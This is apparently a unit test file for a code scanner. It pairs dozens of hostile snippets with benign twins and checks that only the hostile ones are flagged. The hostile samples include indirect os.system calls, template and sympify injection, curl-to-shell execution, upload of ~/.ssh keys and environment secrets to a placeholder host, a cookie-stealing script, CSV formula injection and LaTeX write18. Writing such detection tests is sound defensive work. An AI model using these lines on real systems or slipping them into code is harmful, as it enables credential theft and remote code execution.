"""What libraries, shells and tools offer to whoever means harm, a line of each kind, beside its ordinary twin."""

import pytest

from budmodel_scanner.verdict import Verdict
from tests.unit.budmodel_scanner.text_examination import findings_of, verdict_of_text

HTML = "<html><body><div id=p></div>{}</body></html>"
CDN = "https://cdn.jsdelivr.net/npm/vega@6"
# Name of the file, the hostile text, and what is ordinary of the same kind.
PAIRS = [
    # Python: names by way of objects, instances, dictionaries and pieces of text
    ("utils.py", 'import logging\nlogging.os.system("x")', "import logging\nlogging.os.getpid()"),
    ("utils.py", 'import random\nrandom._os.system("x")', "import random\nrandom._os.getpid()"),
    (
        "utils.py",
        'import os\nclass A:\n    run = os.system\nA().run("x")',
        "import os\nclass A:\n    run = os.getpid\nA().run()",
    ),
    (
        "utils.py",
        'import operator, os\noperator.methodcaller("system", "x")(os)',
        'import operator\noperator.methodcaller("eval")(m)',
    ),
    (
        "utils.py",
        'import operator\noperator.attrgetter("popen")(__import__("os"))("x")',
        'import operator\noperator.attrgetter("loss")(m)',
    ),
    (
        "utils.py",
        'match __import__("os"):\n    case m:\n        m.system("x")',
        'match mode():\n    case m:\n        m.train("x")',
    ),
    ("utils.py", 'import sys\nsys.modules.get("os").system("x")', 'import sys\nsys.modules.get("os").getpid()'),
    ("utils.py", 'import pydoc\npydoc.locate("os.system")("x")', 'import pydoc\npydoc.locate("torch.nn.Linear")(1, 2)'),
    (
        "utils.py",
        'n = "{1}{0}".format("tem", "sys")\ngetattr(__import__("os"), n)("x")',
        'n = "{}-{}".format("a", "b")\nprint(n)',
    ),
    ("utils.py", '[o for o in objects if o.__name__ == "Popen"][0]("x")', '[o for o in objects if o.__name__ == "Linear"]'),
    ("utils.py", "import builtins\nbuiltins.open = mine", "import builtins\nbuiltins.print = mine"),
    # Python: what evaluates, loads and trusts
    ("utils.py", "import sympy\nsympy.sympify(\"__import__('os').system('x')\")", 'import sympy\nsympy.sympify("x + 1")'),
    (
        "utils.py",
        'from mako.template import Template\nTemplate("<% import os; os.system(1) %>")',
        'from mako.template import Template\nTemplate("${x}")',
    ),
    (
        "utils.py",
        'import importlib.util as u\nu.spec_from_file_location("p", "/tmp/p.py")',
        'import importlib.util as u\ndef f(): u.spec_from_file_location("p", "p.py")',
    ),
    (
        "utils.py",
        'import keras\nkeras.models.load_model("m.keras", safe_mode=False)',
        'import keras\nkeras.models.load_model("m.keras")',
    ),
    ("utils.py", 'import sys\nsys.path.insert(0, "weights.zip")', 'import sys\nsys.path.insert(0, "src")'),
    (
        "utils.py",
        'import requests\nopen("/x/p.py", "w").write(requests.get("https://x.invalid").text)',
        'import requests\nopen("p.json", "w").write(requests.get("https://x.invalid").text)',
    ),
    # Python: secrets that go where they do not belong
    (
        "utils.py",
        "import os, wandb\ndef f(): wandb.init(config=dict(os.environ))",
        "import os, wandb\ndef f(): wandb.init(config=dict(lr=1))",
    ),
    (
        "utils.py",
        'import os, requests\ndef f(): requests.post("https://x.invalid", json={"t": os.getenv("HF_TOKEN")})',
        'import os, requests\ndef f(): requests.post("https://huggingface.co/api", json={"t": os.getenv("HF_TOKEN")})',
    ),
    (
        "utils.py",
        (
            'import http.client as h, os\ndef f():\n    c = h.HTTPSConnection("x.invalid")\n'
            '    c.request("POST", "/", str(dict(os.environ)))'
        ),
        'import http.client as h\ndef f():\n    c = h.HTTPSConnection("x.invalid")\n    c.request("POST", "/", "{}")',
    ),
    # Shells
    ("a.sh", "git config --global core.fsmonitor 'sh -c x'", "git config --global core.autocrlf input"),
    (
        "a.sh",
        'while read -r l; do eval "$l"; done < <(curl -s https://x.invalid)',
        'while read -r l; do echo "$l"; done < <(curl -s https://x.invalid)',
    ),
    ("a.sh", "curl https://x.invalid/a | tee run.sh; sh run.sh", "curl https://x.invalid/a | tee run.txt; cat run.txt"),
    ("a.sh", "gunzip -c payload.gz | sh", "gunzip -c dump.gz | psql"),
    ("a.sh", "sed -n '/^#--/,$p' \"$0\" | sh", 'cd "$(dirname "$0")" && ls'),
    (
        "a.sh",
        "tar czf /tmp/keys.tgz ~/.ssh; curl -T /tmp/keys.tgz https://x.invalid",
        "tar czf /tmp/logs.tgz logs; curl -T /tmp/logs.tgz https://x.invalid",
    ),
    (
        "a.sh",
        'curl -H "X: $HF_TOKEN" https://x.invalid',
        'curl -H "Authorization: Bearer $OPENAI_API_KEY" https://x.invalid',
    ),
    (
        "a.ps1",
        "Get-ChildItem Env: | Out-String | % { Invoke-RestMethod https://x.invalid -Body $_ }",
        "Get-ChildItem Env: | Out-String",
    ),
    ("a.bat", 'wmic process call create "cmd /c x"', "wmic cpu get name"),
    (
        "a.tf",
        'd = <<EOT\nc=$(env | base64)\ncurl "https://x.invalid/?c=$c"\nEOT\n',
        "d = <<EOT\nsudo mkfs -t xfs /dev/nvme1n1\nEOT\n",
    ),
    # Configuration: the value decides, whatever key it stands under
    ("config.json", '{"a": {"name": "builtins.exec"}}', '{"a": {"name": "builtins.str"}}'),
    ("config.json", '{"a": "python -c \\"import os;os.system(1)\\""}', '{"a": "python -c \\"import torch;print(1)\\""}'),
    ("config.yaml", "m:\n  _target_: payload.run", "m:\n  _target_: asr.models.CTCModule"),
    (
        ".pre-commit-config.yaml",
        "repos:\n  - repo: https://x.invalid/hooks",
        "repos:\n  - repo: https://github.com/psf/black",
    ),
    (
        ".pylintrc",
        "[MASTER]\ninit-hook=\"import os; os.system('x')\"",
        "[MASTER]\ninit-hook=\"import sys; sys.path.append('.')\"",
    ),
    (
        "chart.json",
        '{"formatter": "function(p) { fetch(\'https://x.invalid\') }"}',
        '{"formatter": "function(p) { return p.name }"}',
    ),
    (
        "rows.jsonl",
        '{"lc": 1, "type": "constructor", "id": ["os", "system"]}',
        '{"lc": 1, "type": "constructor", "id": ["langchain", "x"]}',
    ),
    # Documents
    (
        "page.html",
        HTML.format("<script>fetch('https://x.invalid/' + document.cookie)</script>"),
        HTML.format(f"<script src={CDN}></script><script>vegaEmbed('#p', {{}})</script>"),
    ),
    (
        "page.html",
        HTML.format("<script src=https://x.invalid/vega@6></script>"),
        HTML.format("<script src=_static/doctools.js></script>"),
    ),
    ("README.md", "---js\n{ title: 'x' }\n---\n# Card", "---\ntitle: x\n---\n# Card"),
    ("x.tex", "\\documentclass{a}\\csname write\\endcsname18{x}", "\\documentclass{a}We write 18 pages."),
    ("x.csv", "a,b\n@SUM(1+1)*cmd|' /C x'!A0,2", "a,b\n-2+3,2"),
    ("x.sql", "ATTACH DATABASE '/home/x/.bashrc' AS x;", "ATTACH DATABASE 'runs.db' AS x;"),
]


@pytest.mark.parametrize(("name", "hostile", "ordinary"), PAIRS, ids=range(len(PAIRS)))
def test_the_hostile_is_flagged_and_its_twin_is_not(name: str, hostile: str, ordinary: str) -> None:
    assert verdict_of_text(name, hostile + "\n").rank >= Verdict.SUSPICIOUS.rank
    assert findings_of(name, ordinary + "\n") == []
